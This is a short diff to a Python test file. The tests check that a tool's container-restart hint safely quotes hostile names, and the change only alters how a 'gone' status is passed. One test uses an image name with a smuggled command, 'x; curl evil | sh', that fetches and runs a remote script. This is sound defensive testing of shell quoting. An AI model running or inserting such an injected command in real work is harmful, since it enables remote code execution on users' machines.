@@ -75,7 +75,7 @@ def test_a_record_with_such_a_name_is_no_record(name: str) -> None:
 
 def test_a_hint_quotes_the_image_that_a_host_told() -> None:
     record = SessionRecord("dgx", "cont1", "docker", 8888, image="x; curl evil | sh")
-    assert "--image 'x; curl evil | sh'`" in again(record, gone=True)
+    assert "--image 'x; curl evil | sh'`" in again(record, "container-gone")
 
 
 @pytest.mark.parametrize("name", [*HOSTILE, "it's", "a\\b", "a*", "~", "!!", "{a,b}"])
